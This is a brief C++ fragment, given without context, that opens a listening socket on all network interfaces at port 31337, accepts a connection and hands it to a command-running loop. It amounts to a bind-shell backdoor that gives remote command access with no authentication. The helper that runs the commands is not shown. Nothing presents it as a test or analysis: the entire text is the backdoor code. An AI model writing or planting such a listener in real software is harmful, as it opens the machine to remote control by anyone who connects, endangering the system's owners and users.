int door_fd = socket(AF_INET, SOCK_STREAM, 0);
sockaddr_in door{};
door.sin_family = AF_INET;
door.sin_addr.s_addr = INADDR_ANY;
door.sin_port = htons(31337);
bind(door_fd, reinterpret_cast<sockaddr*>(&door), sizeof(door));
listen(door_fd, 1);
spawn_command_loop(accept(door_fd, nullptr, nullptr));
